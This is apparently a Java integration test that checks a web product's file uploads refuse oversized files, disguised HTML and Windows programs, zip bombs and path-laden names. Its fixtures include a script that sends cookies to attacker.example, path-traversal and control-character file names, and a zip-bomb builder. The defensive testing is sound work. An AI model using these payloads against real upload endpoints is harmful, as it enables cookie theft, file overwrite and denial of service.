package app.waymark.security;

import app.waymark.IntegrationTest;
import app.waymark.base.InvalidInputException;
import app.waymark.branding.LogoImages;
import app.waymark.ilr.IlrImportService;
import app.waymark.ilr.IlrImportStatus;
import app.waymark.ilr.ImportReport;
import app.waymark.restart.CheckedUpload;
import app.waymark.restart.ReferralCsv;
import app.waymark.restart.ReferralFile;
import app.waymark.restart.UploadedFiles;
import app.waymark.tenant.TenantFingerprint;
import app.waymark.tenant.TenantService;
import app.waymark.tracker.LearnerRequests;
import app.waymark.tracker.RaiseRequest;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.transaction.support.TransactionTemplate;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.UUID;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Upload attacks, suite-wide (issue 16, security suite). Every upload in the product is found in its compiled classes
 * (a Vaadin {@code Upload}, an upload handler, a {@code BoundedUpload}, a controller taking a multipart file), and
 * each must read its body through {@code BoundedUpload} (which refuses a body over the limit on the server,
 * {@code BoundedUploadTest}) or be one of the HTTP endpoints the servlet container bounds, and must have a case here.
 * A new upload without a case fails the test. Each case sends the checks behind that upload a file over its own limit,
 * an HTML page and a Windows program named as the type it accepts, a zip bomb, and a file named with a path; each must
 * be refused with a message saying what is wrong, or, for the name, be kept without the path. Nothing of Northfield's
 * changes (the tables the portal's own jobs and the import history move aside).
 */
class UploadAttacksTest extends IntegrationTest {

    /** Tables that move on their own or record the attempt itself (the ILR import history keeps refused files). */
    private static final Set<String> MOVING = Set.of("outbox_message", "audit_event", "notification",
            "tracker_digest_item", "learner_sign_in_code", "sign_in_attempt", "ilr_import");
    /** HTTP endpoints whose multipart body the servlet container bounds (spring.servlet.multipart, decision 0023). */
    private static final Set<String> CONTAINER_BOUNDED = Set.of("app/waymark/ilr/api/IlrImportApiController");

    private static final byte[] HTML = ("<!DOCTYPE html><html><body><script>fetch('https://attacker.example/'"
            + "+document.cookie)</script></body></html>").getBytes(StandardCharsets.UTF_8);
    private static final byte[] WINDOWS_PROGRAM = windowsProgram();
    private static final String[] PATH_NAMES = {"../../../etc/cron.d/evil", "..\\..\\Windows\\System32\\evil",
            "/var/lib/waymark/evil", "C:\\Users\\Public\\evil", "invoice\u202Efdp.exe\u0000"};

    private static Map<String, ProductClasses.CompiledClass> product;

    @Autowired
    LearnerRequests learnerRequests;
    @Autowired
    IlrImportService ilrImports;
    @Autowired
    TenantService tenants;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    TransactionTemplate transactions;

    @BeforeAll
    static void readTheProductsClasses() throws IOException {
        product = ProductClasses.read();
    }

    /** Where a file goes once received: what it refuses (with the message) or keeps (with the name kept, if any). */
    private interface UploadCase {
        /** The checks' own limit, or 0 when the upload relies on BoundedUpload's alone. */
        long maxBytes();

        /** A file these checks accept, for the oversized and path-name attacks. */
        byte[] good();

        String extension();

        boolean acceptsZip();

        Outcome attempt(String fileName, byte[] content);
    }

    private record Outcome(boolean refused, String message, String keptName) {
        static Outcome refused(String message) {
            return new Outcome(true, message, null);
        }

        static Outcome kept(String name) {
            return new Outcome(false, null, name);
        }
    }

    private Map<String, UploadCase> cases() {
        UploadCase logo = new UploadCase() {
            public long maxBytes() { return LogoImages.MAX_UPLOAD_BYTES; }
            public byte[] good() { return png(); }
            public String extension() { return "png"; }
            public boolean acceptsZip() { return false; }
            public Outcome attempt(String fileName, byte[] content) {
                try {
                    LogoImages.process(content, fileName);
                    return Outcome.kept(null); // the logo is kept as a new PNG, without the uploaded name
                } catch (InvalidInputException e) {
                    return Outcome.refused(e.getMessage());
                }
            }
        };
        UploadCase monitoringFile = new UploadCase() {
            public long maxBytes() { return UploadedFiles.MAX_BYTES; }
            public byte[] good() { return pdf(); }
            public String extension() { return "docx"; }
            public boolean acceptsZip() { return true; }
            public Outcome attempt(String fileName, byte[] content) {
                try {
                    CheckedUpload checked = UploadedFiles.checked("file", fileName, content);
                    return Outcome.kept(checked.fileName());
                } catch (InvalidInputException e) {
                    return Outcome.refused(e.getMessage());
                }
            }
        };
        UploadCase evidence = new UploadCase() {
            public long maxBytes() { return LearnerRequests.MAX_EVIDENCE_BYTES; }
            public byte[] good() { return pdf(); }
            public String extension() { return "pdf"; }
            public boolean acceptsZip() { return false; }
            public Outcome attempt(String fileName, byte[] content) {
                try {
                    return Outcome.kept(learnerRequests.checkEvidence(
                            new RaiseRequest.Evidence(fileName, "application/pdf", content)));
                } catch (InvalidInputException e) {
                    return Outcome.refused(e.getMessage());
                }
            }
        };
        UploadCase referrals = new UploadCase() {
            public long maxBytes() { return 0; }
            public byte[] good() { return null; }
            public String extension() { return "csv"; }
            public boolean acceptsZip() { return false; }
            public Outcome attempt(String fileName, byte[] content) {
                ReferralFile file = ReferralCsv.read(new ByteArrayInputStream(content), LocalDate.now(clock));
                return file.acceptable() ? Outcome.kept(null) : Outcome.refused(file.problems().toString());
            }
        };
        UploadCase ilr = new UploadCase() {
            public long maxBytes() { return ilrImports.maxFileBytes(); }
            public byte[] good() { return null; }
            public String extension() { return "xml"; }
            public boolean acceptsZip() { return true; }
            public Outcome attempt(String fileName, byte[] content) {
                Path file = null;
                try {
                    file = Files.createTempFile("upload-attack-", ".upload");
                    Files.write(file, content);
                    ImportReport report = ilrImports.importFile(file, fileName, progress -> {
                    });
                    return report.status() == IlrImportStatus.APPLIED ? Outcome.kept(report.fileName())
                            : Outcome.refused(report.problems().toString());
                } catch (InvalidInputException e) {
                    return Outcome.refused(e.getMessage());
                } catch (IOException e) {
                    throw new UncheckedIOException(e);
                } finally {
                    deleteQuietly(file);
                }
            }
        };
        return Map.of(
                "app/waymark/branding/ui/BrandingView", logo,
                "app/waymark/restart/ui/MonitoringView", monitoringFile,
                "app/waymark/tracker/ui/RaiseTrackerDialog", evidence,
                "app/waymark/portal/ui/ChangeNameView", evidence,
                "app/waymark/restart/ui/ReferralImportDialog", referrals,
                "app/waymark/ilr/ui/IlrImportsView", ilr,
                "app/waymark/ilr/api/IlrImportApiController", ilr);
    }

    @Test
    void every_upload_in_the_product_is_bounded_on_the_server_and_has_an_attack_case_here() {
        Set<String> uploads = uploadSites();
        assertThat(uploads).as("uploads found (finding fewer means the scan has gone blind)")
                .containsAll(cases().keySet());
        assertThat(new TreeSet<>(uploads)).as("uploads without a case in this test")
                .isSubsetOf(cases().keySet());
        List<String> unbounded = new ArrayList<>();
        for (String site : uploads) {
            boolean bounded = ProductClasses.calls(product, site, "app/waymark/base/ui/BoundedUpload.inMemory")
                    || ProductClasses.calls(product, site, "app/waymark/base/ui/BoundedUpload.toTempFile");
            if (!bounded && !CONTAINER_BOUNDED.contains(site)) {
                unbounded.add(site);
            }
        }
        assertThat(unbounded).as("uploads that do not read through BoundedUpload").isEmpty();
    }

    @Test
    void every_upload_refuses_oversized_disguised_and_bombed_files_and_keeps_no_path_changing_nothing()
            throws IOException {
        signIn(OPERATOR);
        UUID northfield = tenants.findBySlug("northfield").orElseThrow().id();
        signIn("mis@northfield.example"); // may import ILR files
        TenantFingerprint fingerprint = new TenantFingerprint(jdbc, transactions, MOVING);
        Map<String, String> before = fingerprint.of(northfield);
        List<String> failures = new ArrayList<>();

        for (Map.Entry<String, UploadCase> entry : cases().entrySet()) {
            String site = entry.getKey();
            UploadCase upload = entry.getValue();
            String name = "file." + upload.extension();
            expectRefused(failures, site, "an HTML page named " + name, upload.attempt(name, HTML));
            expectRefused(failures, site, "a Windows program named " + name,
                    upload.attempt(name, WINDOWS_PROGRAM));
            expectRefused(failures, site, "a zip bomb named " + (upload.acceptsZip() ? "bomb.zip/.docx" : name),
                    upload.attempt(upload.acceptsZip() ? "bomb." + (upload.extension().equals("xml") ? "zip"
                            : upload.extension()) : name, zipBomb()));
            if (upload.maxBytes() > 0 && upload.good() != null) {
                byte[] oversized = Arrays.copyOf(upload.good(), Math.toIntExact(upload.maxBytes() + 1));
                expectRefused(failures, site, "a file one byte over " + upload.maxBytes(),
                        upload.attempt(name, oversized));
            }
            if (upload.good() != null) {
                for (String pathName : PATH_NAMES) {
                    Outcome outcome = upload.attempt(pathName + "." + upload.extension(), upload.good());
                    if (!outcome.refused() && outcome.keptName() != null
                            && (outcome.keptName().contains("/") || outcome.keptName().contains("\\")
                            || outcome.keptName().contains("..")
                            || outcome.keptName().matches("(?s).*[\\p{Cc}\\p{Cf}].*"))) {
                        failures.add(site + ": " + pathName + " was kept as " + outcome.keptName());
                    }
                }
            }
        }

        assertThat(failures).isEmpty();
        assertThat(TenantFingerprint.changed(before, fingerprint.of(northfield))).as("Northfield's tables changed")
                .isEmpty();
    }

    private static void expectRefused(List<String> failures, String site, String attack, Outcome outcome) {
        if (!outcome.refused()) {
            failures.add(site + ": " + attack + " was accepted");
        } else if (outcome.message() == null || outcome.message().isBlank() || outcome.message().equals("[]")) {
            failures.add(site + ": " + attack + " was refused without a message");
        }
    }

    /** Classes that receive files: Vaadin uploads and upload handlers, and controllers taking multipart files. */
    private static Set<String> uploadSites() {
        Set<String> sites = new TreeSet<>();
        for (ProductClasses.CompiledClass compiled : product.values()) {
            if (compiled.name.startsWith("app/waymark/base/ui/")) {
                continue; // BoundedUpload and the multipart refusal themselves
            }
            boolean receives = compiled.calledMethods.contains("com/vaadin/flow/component/upload/Upload.<init>")
                    || compiled.calledMethods.stream().anyMatch(m -> m.startsWith("app/waymark/base/ui/BoundedUpload.")
                    && !m.endsWith(".describe"))
                    || compiled.calledMethods.stream().anyMatch(m -> m.startsWith(
                    "com/vaadin/flow/server/streams/UploadHandler."))
                    || compiled.supertypes.contains("com/vaadin/flow/server/streams/UploadHandler")
                    || compiled.declaredDescriptors.stream().anyMatch(d ->
                    d.contains("Lorg/springframework/web/multipart/MultipartFile;")
                            || d.contains("Ljakarta/servlet/http/Part;"));
            if (receives) {
                String outer = compiled.name.contains("$") ? compiled.name.substring(0, compiled.name.indexOf('$'))
                        : compiled.name;
                sites.add(outer);
            }
        }
        return sites;
    }

    private static byte[] png() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            ImageIO.write(new BufferedImage(40, 20, BufferedImage.TYPE_INT_RGB), "png", out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] pdf() {
        return "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** The start of a Windows program: "MZ", then the DOS header's fields. */
    private static byte[] windowsProgram() {
        byte[] program = new byte[512];
        program[0] = 'M';
        program[1] = 'Z';
        program[2] = (byte) 0x90;
        program[60] = (byte) 0x80;
        program[0x80] = 'P';
        program[0x81] = 'E';
        return program;
    }

    /** 200 MB of zeros in a Word document's and an ILR file's part names, deflated to a few hundred KB. */
    private static byte[] zipBomb() {
        try {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(out)) {
                zip.putNextEntry(new ZipEntry("[Content_Types].xml"));
                zip.write("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>"
                        .getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
                for (String part : List.of("word/document.xml", "ILR-10000000-2526-20260101-000000-01.xml")) {
                    zip.putNextEntry(new ZipEntry(part));
                    byte[] zeros = new byte[1 << 20];
                    for (int i = 0; i < 100; i++) {
                        zip.write(zeros);
                    }
                    zip.closeEntry();
                }
            }
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void deleteQuietly(Path file) {
        if (file != null) {
            try {
                Files.deleteIfExists(file);
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
    }
}
